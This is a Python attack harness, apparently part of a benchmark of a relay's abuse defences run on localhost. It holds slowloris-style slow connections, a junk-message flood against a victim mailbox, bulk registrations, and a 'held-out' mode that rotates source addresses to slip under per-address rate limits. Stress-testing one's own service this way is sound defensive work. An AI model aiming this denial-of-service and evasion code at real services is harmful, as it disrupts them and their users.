#!/usr/bin/env python3
"""The attacker process of scripts/bench-abuse.sh: one process, for SECONDS, against a relay at
https://localhost:PORT (trusting CA):

- holds SLOW connections (default 600) spread over 127.0.0.2..127.0.0.21: half trickle a request
  head one byte every 2 s, half send a head with Content-Length 100000 and trickle the body one
  byte a second; a connection the relay closes is opened again at once;
- floods junk deposits (random bytes, a valid token of its own account) at a victim's mailbox
  from 127.0.0.22, four at a time;
- tries the 1,000 registrations in FOLDER/registrations.jsonl (one key pair under new names)
  from 127.0.0.23..127.0.0.42, four at a time.

With MIX "held-out" (an attack the relay's defences were not tuned on): every slow connection
first completes one real request (GET /v1/health, answer read) so that it looks productive, then
trickles the next head; and the junk deposits come from 20 addresses (127.0.0.60..79) instead of
one, each under the per-address connection rate.

Prints one summary line: connections opened and cut, answers by status for deposits and
registrations.

usage: abuse_attacker.py PORT CA FOLDER SECONDS [SLOW] [MIX]
"""
import asyncio
import collections
import os
import ssl
import sys
import time

port, ca, folder, seconds = int(sys.argv[1]), sys.argv[2], sys.argv[3], float(sys.argv[4])
slow_count = int(sys.argv[5]) if len(sys.argv) > 5 else 600
held_out = len(sys.argv) > 6 and sys.argv[6] == "held-out"
context = ssl.create_default_context(cafile=ca)
deadline = time.monotonic() + seconds
stats = collections.Counter()
deposit_statuses = collections.Counter()
registration_statuses = collections.Counter()


async def connect(source):
    return await asyncio.wait_for(
        asyncio.open_connection("127.0.0.1", port, ssl=context, server_hostname="localhost", local_addr=(source, 0)), 10)


async def slow_connection(index):
    source = "127.0.0.%d" % (2 + index % 20)
    trickle_body = index % 2 == 1
    while time.monotonic() < deadline:
        try:
            reader, writer = await connect(source)
        except Exception:
            stats["refused_or_failed_connects"] += 1
            await asyncio.sleep(0.5)
            continue
        stats["slow_connections_opened"] += 1
        opened = time.monotonic()
        try:
            if held_out:
                writer.write(b"GET /v1/health HTTP/1.1\r\nHost: localhost\r\n\r\n")
                await writer.drain()
                await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), 10)
                stats["slow_requests_completed_first"] += 1
            if trickle_body:
                writer.write(b"POST /v1/directory/register HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
                             b"Content-Length: 100000\r\n\r\n")
                step, pause = b"{", 1.0
            else:
                writer.write(b"GET /v1/relay HTTP/1.1\r\n")
                step, pause = b"X", 2.0
            await writer.drain()
            while time.monotonic() < deadline:
                await asyncio.sleep(pause)
                if reader.at_eof():
                    break
                writer.write(step)
                await writer.drain()
        except Exception:
            pass
        if time.monotonic() < deadline:
            stats["slow_connections_cut"] += 1
            stats["slow_seconds_held"] += int(time.monotonic() - opened)
        writer.close()


async def request(source, method, path, body, headers=()):
    reader, writer = await connect(source)
    try:
        head = "%s %s HTTP/1.1\r\nHost: localhost\r\nContent-Length: %d\r\nConnection: close\r\n" % (method, path, len(body))
        head += "".join("%s: %s\r\n" % header for header in headers)
        writer.write(head.encode() + b"\r\n" + body)
        await writer.drain()
        status_line = await asyncio.wait_for(reader.readline(), 30)
        return int(status_line.split()[1])
    finally:
        writer.close()


async def junk_deposits(token, victim, worker):
    sent = 0
    while time.monotonic() < deadline:
        source = "127.0.0.%d" % (60 + (worker * 5 + sent) % 20) if held_out else "127.0.0.22"
        sent += 1
        try:
            status = await request(source, "POST", "/v1/messages?to=" + victim, os.urandom(2048),
                                   [("Authorization", "Bearer " + token), ("Content-Type", "application/octet-stream")])
        except Exception as error:
            status = type(error).__name__
        deposit_statuses[status] += 1


async def registrations(bodies, start):
    for index in range(start, len(bodies), 4):
        if time.monotonic() >= deadline:
            return
        try:
            status = await request("127.0.0.%d" % (23 + index % 20), "POST", "/v1/directory/register", bodies[index],
                                   [("Content-Type", "application/json")])
        except Exception as error:
            status = type(error).__name__
        registration_statuses[status] += 1


async def main():
    token = open(os.path.join(folder, "attacker-token")).read().strip()
    victim = open(os.path.join(folder, "victim")).read().strip()
    bodies = [line.encode() for line in open(os.path.join(folder, "registrations.jsonl")).read().splitlines() if line]
    tasks = [asyncio.ensure_future(slow_connection(index)) for index in range(slow_count)]
    tasks += [asyncio.ensure_future(junk_deposits(token, victim, worker)) for worker in range(4)]
    tasks += [asyncio.ensure_future(registrations(bodies, start)) for start in range(4)]
    await asyncio.gather(*tasks, return_exceptions=True)
    cut = stats["slow_connections_cut"]
    print("attacker mix=%s slow_connections=%d opened=%d cut=%d mean_seconds_held=%.1f failed_connects=%d deposits=%s registrations=%s" % (
        "held-out" if held_out else "tuned", slow_count, stats["slow_connections_opened"], cut, stats["slow_seconds_held"] / cut if cut else 0,
        stats["refused_or_failed_connects"], dict(deposit_statuses), dict(registration_statuses)))


asyncio.run(main())
